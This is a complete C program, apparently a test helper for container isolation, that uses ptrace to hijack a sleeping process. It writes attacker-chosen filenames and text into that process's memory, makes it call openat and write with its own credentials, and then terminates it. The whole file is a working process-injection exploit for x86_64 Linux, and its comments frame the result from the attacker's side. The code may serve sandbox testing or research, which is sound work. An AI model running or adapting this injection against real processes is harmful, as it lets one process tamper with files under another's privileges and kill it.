// ptrace-inject PID FILE TEXT: run from inside a container with
// CAP_SYS_PTRACE. Attach to PID (a process of the same user namespace,
// asleep in a system call), make it call openat(FILE, O_WRONLY|O_APPEND)
// and write TEXT there with its own credentials, then exit_group(0).
// Prints "attach: ok" or the attach error, then "openat: N" (a fd, or
// -errno as the kernel returned it to the traced process). x86_64 only.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

static pid_t pid;
static struct user_regs_struct saved;
static unsigned long long syscall_insn;

// One system call in the traced process: its registers as it stopped, the
// number and arguments set, the instruction pointer on a `syscall`.
static long long call(long long nr, long long a1, long long a2, long long a3) {
  struct user_regs_struct r = saved;
  r.rax = nr;
  r.orig_rax = -1;  // no system call restart on resume
  r.rdi = a1, r.rsi = a2, r.rdx = a3;
  r.rip = syscall_insn;
  if (ptrace(PTRACE_SETREGS, pid, 0, &r) != 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0) return -1000;
  int st;
  if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st)) return -1001;
  if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) return -1002;
  return (long long)r.rax;
}

// Copy S (with its NUL) to ADDR in the traced process.
static int poke_string(unsigned long long addr, const char* s) {
  size_t n = strlen(s) + 1;
  for (size_t i = 0; i < n; i += sizeof(long)) {
    long word = 0;
    memcpy(&word, s + i, n - i < sizeof word ? n - i : sizeof word);
    if (ptrace(PTRACE_POKEDATA, pid, addr + i, word) != 0) return -1;
  }
  return 0;
}

int main(int argc, char** argv) {
  if (argc != 4) return fprintf(stderr, "usage: ptrace-inject PID FILE TEXT\n"), 2;
  pid = (pid_t)atoi(argv[1]);
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0 || ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0)
    return printf("attach: %s\n", strerror(errno)), 1;
  int st;
  if (waitpid(pid, &st, __WALL) != pid) return printf("attach: waitpid: %s\n", strerror(errno)), 1;
  printf("attach: ok\n");
  if (ptrace(PTRACE_GETREGS, pid, 0, &saved) != 0) return printf("getregs: %s\n", strerror(errno)), 1;
  // Stopped in a system call: the instruction before rip is `syscall` (0f 05).
  errno = 0;
  long word = ptrace(PTRACE_PEEKTEXT, pid, saved.rip - 2, 0);
  if (errno || (word & 0xffff) != 0x050f) return printf("not stopped after a syscall instruction\n"), 1;
  syscall_insn = saved.rip - 2;
  unsigned long long scratch = (saved.rsp - 8192) & ~15ULL;  // well below the red zone
  if (poke_string(scratch, argv[2]) || poke_string(scratch + 4096, argv[3]))
    return printf("poke: %s\n", strerror(errno)), 1;
  long long fd = call(SYS_openat, AT_FDCWD, (long long)scratch, O_WRONLY | O_APPEND);
  printf("openat: %lld\n", fd);
  if (fd >= 0) {
    printf("write: %lld\n", call(SYS_write, fd, (long long)(scratch + 4096), (long long)strlen(argv[3])));
    call(SYS_close, fd, 0, 0);
  }
  fflush(stdout);
  // End it: the hook "succeeds", as the attacker may want.
  struct user_regs_struct r = saved;
  r.rax = SYS_exit_group, r.orig_rax = -1, r.rdi = 0, r.rip = syscall_insn;
  ptrace(PTRACE_SETREGS, pid, 0, &r);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  return 0;
}
